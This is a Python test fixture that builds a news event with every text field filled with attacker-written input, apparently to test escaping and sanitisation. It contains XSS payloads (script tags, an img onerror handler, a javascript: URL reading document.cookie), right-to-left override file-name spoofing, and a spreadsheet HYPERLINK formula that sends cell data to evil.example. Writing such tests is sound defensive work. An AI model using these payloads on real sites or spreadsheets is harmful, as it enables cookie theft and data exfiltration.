"""An event whose every text field was written by an attacker."""

from .factories import make_actor, make_article, make_event, make_place

SCRIPT = "<script>alert(1)</script>"
RLO = "\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
JS_URL = "javascript:alert(document.cookie)"
QUOTE = f'قال "><img src=x onerror=alert(2)> {RLO}gnp.exe{SCRIPT} الوزير.'


def make_hostile_event():
    article = make_article(
        body=f"مقدمة. {QUOTE} خاتمة.",
        url=JS_URL,
        title=f"{SCRIPT}عنوان{RLO}",
        origin=f"{SCRIPT}.txt",
    )
    return make_event(
        title_ar=f"{SCRIPT}اجتماع {RLO}سري",
        title_en=FORMULA,
        actors=[make_actor(f"Evil {SCRIPT}", name_ar=f"{RLO}شرير")],
        place=make_place(f"-Place {SCRIPT}", name_ar=f"@{RLO}مكان"),
        quote=QUOTE,
        article=article,
    )
